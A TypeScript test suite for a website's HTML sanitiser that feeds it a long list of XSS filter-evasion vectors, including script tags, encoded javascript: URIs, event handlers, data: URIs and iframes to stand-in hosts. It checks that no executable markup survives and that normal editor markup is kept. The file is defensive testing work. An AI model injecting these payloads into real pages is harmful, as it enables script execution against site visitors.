/**
 * The body sanitiser against filter-evasion vectors in the manner of the OWASP XSS cheat sheet
 * (written here, not copied): whatever comes in, nothing executable comes out, and the markup the
 * editor writes survives as it was.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { safeEmbedSrc, sanitizeBody } from '../services/sanitize.ts';

const VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<script/XSS src="https://xss.example/xss.js"></script>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<a href="java\0script:alert(1)">null byte</a>',
  '<IMG SRC="java\0script:alert(\'XSS\')">',
  '<a href="&#x6A;avascript:alert(1)">hex entity</a>',
  '<a href="javascript&colon;alert(1)">named colon</a>',
  '<a href=" JAVASCRIPT:alert(1)">spaced upper</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)>',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  "<BODY ONLOAD=alert('XSS')>",
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<iframe src="javascript:alert(1)" title="x"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>" title="x"></iframe>',
  '<iframe src="https://evil.example/embed/x" title="x"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x" title="x"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="v" onload="alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<object type="text/x-scriptlet" data="https://xss.example/scriptlet.html"></object>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input type="image" src="javascript:alert(1)">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
  '<p style="behavior: url(xss.htc)">x</p>',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(1)">x</TD></TABLE>',
  '<a href="https://x.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<p onclick=alert(1)//>x</p>',
  '<a/href="javascript:alert(1)">slash attr</a>',
  '<a href="javas&#99;ript:alert(1)">decimal in the middle</a>',
  '<a href="jav&Tab;ascript:alert(1)">named tab</a>',
  '<img src="x" alt="x"onerror="alert(1)">',
  '<img """ src=x onerror=alert(1)//">',
  '<<img src=x onerror=alert(1)//>',
  '<div data-widget="reports.button" onclick="alert(1)"><script>alert(1)</script></div>',
  '<div data-widget="javascript:alert(1)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<a href="//evil.example/x">protocol relative</a>',
  '<img srcset="javascript:alert(1) 1x, https://x.example/a.png 2x" src="https://x.example/a.png" alt="a">',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
];

const decode = (value: string): string =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_m, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_m, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

const ALLOWED_IFRAME = /^https:\/\/(www\.youtube-nocookie\.com\/embed\/|www\.google\.com\/maps\/embed\?)/;

function assertInert(input: string, html: string): void {
  const where = `${JSON.stringify(input)} → ${JSON.stringify(html)}`;
  assert.doesNotMatch(html, /<script/i, where);
  assert.doesNotMatch(html, /<(svg|math|object|embed|form|input|style|base|meta|link|frame|body)\b/i, where);
  for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) {
    assert.doesNotMatch(tag, /\son\w+\s*=/i, where);
    assert.doesNotMatch(tag, /\s(style|srcdoc|background|action|formaction)\s*=/i, where);
    for (const [, name, raw] of tag.matchAll(/\s([\w-]+)="([^"]*)"/g)) {
      const value = [...decode(raw ?? '')]
        .filter((c) => c.charCodeAt(0) > 32)
        .join('')
        .toLowerCase();
      assert.ok(!/(javascript|vbscript|data):/.test(value), `${name}: ${where}`);
    }
    if (/^<iframe/i.test(tag)) {
      assert.match(tag, /\ssrc="([^"]*)"/, where);
      const src = decode(tag.match(/\ssrc="([^"]*)"/)?.[1] ?? '');
      assert.match(src, ALLOWED_IFRAME, where);
      assert.match(tag, /\ssandbox="/, where);
    }
  }
}

describe('websites: the body sanitiser', () => {
  test(`${VECTORS.length} evasion vectors leave nothing executable`, () => {
    assert.ok(VECTORS.length >= 40);
    for (const vector of VECTORS) {
      const { html, text } = sanitizeBody(vector);
      assertInert(vector, html);
      assert.doesNotMatch(text, /<[a-z]/i, 'text has no markup left');
      // Sanitising is stable: what it wrote passes through unchanged.
      assert.equal(sanitizeBody(html).html, html, vector);
    }
  });

  test('vectors inside legitimate content are removed, the content stays', () => {
    const { html, text } = sanitizeBody(
      `<p>Jadwal <strong>posyandu</strong></p>${VECTORS.join('<p>sela</p>')}<p>Selesai</p>`,
    );
    assertInert('joined', html);
    assert.match(html, /^<p>Jadwal <strong>posyandu<\/strong><\/p>/);
    // An unclosed <svg> or <noscript> swallows what follows it, as a browser would: no end check.
    assert.match(text, /^Jadwal posyandu sela/);
  });

  test('the markup the editor writes survives', () => {
    const input = [
      '<h2>Layanan</h2><h3>Sub</h3><h4>Sub sub</h4>',
      '<p>Teks <strong>tebal</strong>, <em>miring</em>, <u>garis</u>, <s>coret</s>, <code>kode</code><br />baris</p>',
      '<ul><li>satu</li></ul><ol><li>dua</li></ol><blockquote><p>kutipan</p></blockquote><pre><code>x = 1</code></pre>',
      '<p><a href="https://dinkes.example.go.id/a" rel="noopener">luar</a> <a href="/berita/x">dalam</a> <a href="mailto:humas@example.go.id">surel</a> <a href="tel:+62215551234">telepon</a></p>',
      '<figure><img src="/media/1/640.webp" alt="Gedung" width="640" height="480" srcset="/media/1/320.webp 320w, /media/1/640.webp 640w" sizes="(max-width: 640px) 100vw, 640px" loading="lazy" /><figcaption>Gedung dinas</figcaption></figure>',
      '<table><thead><tr><th scope="col">Nama</th><th scope="col" colspan="2">Jam</th></tr></thead><tbody><tr><td rowspan="2">A</td><td>08.00</td></tr></tbody></table>',
      '<hr />',
    ].join('');
    assert.equal(sanitizeBody(input).html, input);
  });

  test('external links get rel="noopener"; an img without alt gets alt=""', () => {
    assert.equal(
      sanitizeBody('<a href="https://x.example" target="_blank">x</a>').html,
      '<a href="https://x.example" rel="noopener">x</a>',
    );
    assert.equal(sanitizeBody('<img src="/a.png">').html, '<img src="/a.png" alt="" />');
    assert.equal(
      sanitizeBody('<h1>a</h1><h6>b</h6><b>c</b><i>d</i>').html,
      '<h2>a</h2><h4>b</h4><strong>c</strong><em>d</em>',
    );
  });

  test('embeds: YouTube goes through nocookie, Google Maps stays, a title is required', () => {
    const yt = sanitizeBody(
      '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?start=5" title="Video profil" width="560" height="315"></iframe>',
    ).html;
    assert.match(
      yt,
      /^<iframe src="https:\/\/www\.youtube-nocookie\.com\/embed\/dQw4w9WgXcQ\?start=5" title="Video profil" width="560" height="315" sandbox="[^"]+" allow="[^"]+"/,
    );
    const maps = sanitizeBody(
      '<iframe src="https://www.google.com/maps/embed?pb=!1m18" title="Peta kantor"></iframe>',
    ).html;
    assert.match(maps, /src="https:\/\/www\.google\.com\/maps\/embed\?pb=!1m18"/);
    assert.equal(sanitizeBody('<iframe src="https://www.youtube.com/embed/abc"></iframe>').html, '');
    assert.equal(sanitizeBody('<iframe src="http://www.youtube.com/embed/abc" title="t"></iframe>').html, '');
    assert.equal(
      sanitizeBody('<iframe src="https://www.google.com/search?q=x" title="t"></iframe>').html,
      '',
    );
    assert.equal(safeEmbedSrc('https://www.youtube.com/watch?v=abc'), undefined);
    assert.equal(safeEmbedSrc('https://user@www.youtube.com/embed/abc'), undefined);
  });

  test('widget placeholders keep their id only; other divs are unwrapped', () => {
    assert.equal(
      sanitizeBody(
        '<div data-widget="prices.today" class="x"><p>isi</p><div data-widget="a.b">y</div></div><div class="k"><p>tetap</p></div>',
      ).html,
      '<div data-widget="prices.today"></div><p>tetap</p>',
    );
    assert.equal(sanitizeBody('<div data-widget="Bad Id">x</div>').html, 'x');
  });

  test('text: the words alone, whitespace collapsed, entities decoded', () => {
    assert.equal(
      sanitizeBody(
        '<h2>Judul</h2>\n<p>Satu   <strong>du</strong>a &amp; &lt;tiga&gt;</p><ul><li>empat</li><li>lima</li></ul>',
      ).text,
      'Judul Satu dua & <tiga> empat lima',
    );
  });
});
